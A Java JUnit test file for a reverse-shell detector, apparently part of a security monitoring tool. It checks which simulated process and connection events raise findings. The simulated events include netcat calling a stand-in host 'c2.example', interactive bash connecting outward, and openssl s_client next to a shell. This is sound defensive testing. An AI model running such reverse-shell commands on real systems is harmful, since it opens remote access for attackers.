package io.hivesec.detectors.shell;

import static io.hivesec.testkit.HiveAssertions.assertThatFindings;
import static org.assertj.core.api.Assertions.assertThat;

import io.hivesec.alert.Confidence;
import io.hivesec.alert.Finding;
import io.hivesec.event.Event;
import io.hivesec.spi.Detector;
import io.hivesec.testkit.Detecting;
import io.hivesec.testkit.DetectorContract;
import io.hivesec.testkit.Scene;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

final class OutboundShellDetectorTest implements DetectorContract {
    private static final String OUTSIDE = "198.51.100.7";
    private static final String INSIDE = "10.1.2.3";
    private final Scene scene = Scene.in("web");

    @Override
    public Detector detector() {
        return new OutboundShellDetector();
    }

    @Override
    public List<Event> incident() {
        Scene incident = Scene.in("incident");
        incident.starts("/bin/sh", "sh", "job.sh")
                .starts("/bin/nc", "nc", "c2.example", "443")
                .connects(-1, OUTSIDE, 443);
        return incident.events();
    }

    private List<Finding> found() {
        return Detecting.findings(detector(), scene);
    }

    private Scene.Actor netcat(String... arguments) {
        return scene.starts("/bin/sh", "sh", "job.sh").starts("/usr/bin/nc", arguments);
    }

    @Test
    void inspect_netcatUnderScriptToTheOutside_findsItWithTree() {
        netcat("nc", "c2.example", "443").connects(-1, OUTSIDE, 443);
        assertThatFindings(found()).show("reverse-shell.utility-connects", "scope", "external");
        assertThat(found()).first().satisfies(finding -> {
            assertThat(finding.confidence()).isEqualTo(Confidence.MEDIUM);
            assertThat(finding.subject().process().name()).isEqualTo("nc");
            assertThat(finding.subject().ancestors())
                    .extracting(one -> one.name())
                    .containsExactly("sh");
        });
    }

    @Test
    void inspect_netcatToInternalMachine_isFoundWithLittleConfidence() {
        netcat("nc", INSIDE, "4444").connects(-1, INSIDE, 4444);
        assertThat(found()).first().extracting(Finding::confidence).isEqualTo(Confidence.LOW);
    }

    @Test
    void inspect_portProbe_isQuiet() {
        netcat("nc", "-zv", "-w", "2", OUTSIDE, "443").connects(-1, OUTSIDE, 443);
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_metricsToInternalMachine_isQuiet() {
        netcat("nc", "-q0", "graphite", "2003").connects(-1, INSIDE, 2003);
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_healthCheckOnThisMachine_isQuiet() {
        netcat("nc", "localhost", "2181").connects(-1, "127.0.0.1", 2181);
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_netcatUnderService_isQuiet() {
        scene.starts("/usr/sbin/monitor", "monitor")
                .starts("/bin/nc", "nc", "a", "1")
                .connects(-1, OUTSIDE, 1);
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_curlUnderShell_isQuiet() {
        scene.starts("/bin/bash", "bash")
                .starts("/usr/bin/curl", "curl", "www.example")
                .connects(-1, OUTSIDE, 80);
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_shellConnectsAndShellFollows_findsIt() {
        scene.starts("/bin/bash", "bash", "-c", "bash -i")
                .connects(-1, INSIDE, 4444)
                .executes("/bin/bash", "bash", "-i");
        assertThatFindings(found()).show("reverse-shell.shell-connects", "scope", "internal");
    }

    @Test
    void inspect_waitingShellConnects_isFoundWithDoubt() {
        scene.starts("/bin/bash", "/bin/bash").connects(-1, OUTSIDE, 4444);
        assertThat(found()).first().extracting(Finding::confidence).isEqualTo(Confidence.LOW);
    }

    @Test
    void inspect_shellCommandProbesPort_isQuiet() {
        scene.starts("/bin/bash", "bash", "-c", "echo > /dev/tcp/db/5432").connects(-1, INSIDE, 5432);
        assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_descriptorTold_leavesItToTheRuleForDescriptors() {
        scene.starts("/bin/cat", "cat").duplicates(3, 1);
        scene.starts("/bin/bash", "bash", "-i").connects(3, OUTSIDE, 4444);
        assertThatFindings(found()).areNone();
    }

    @ParameterizedTest
    @CsvSource({"-i, true", "x.sh, false"})
    void inspect_clientOfTlsBesideAShell_isFoundWhereItIsInteractive(String argument, boolean isFound) {
        Scene.Actor script = scene.starts("/bin/bash", "bash", "/tmp/r.sh");
        script.starts("/bin/sh", "sh", argument);
        script.starts("/usr/bin/openssl", "openssl", "s_client", "-connect", "x:443")
                .connects(3, OUTSIDE, 443);
        if (isFound) assertThatFindings(found()).show("reverse-shell.utility-connects");
        else assertThatFindings(found()).areNone();
    }

    @Test
    void inspect_interactiveShellConnectsAndRunsCommands_isFoundWhereNobodyTellsOfStreams() {
        Scene.Actor shell = scene.starts("/usr/bin/java", "java", "-jar", "a.jar")
                .starts("/bin/bash", "bash", "-i")
                .connects(3, OUTSIDE, 443);
        assertThatFindings(found()).areNone();
        shell.starts("/usr/bin/id", "id");
        assertThatFindings(found()).show("reverse-shell.shell-connects");
    }

    @Test
    void inspect_commandsOfAShell_thatDidNotConnectOrWhoseStreamsAreTold_isQuiet() {
        Scene.Actor shell = scene.starts("/bin/bash", "bash", "-i");
        shell.starts("/usr/bin/curl", "curl", "x").connects(3, OUTSIDE, 443);
        shell.starts("/usr/bin/id", "id");
        shell.connects(3, OUTSIDE, 443).duplicates(3, 9).starts("/usr/bin/id", "id");
        assertThatFindings(found()).areNone();
    }
}
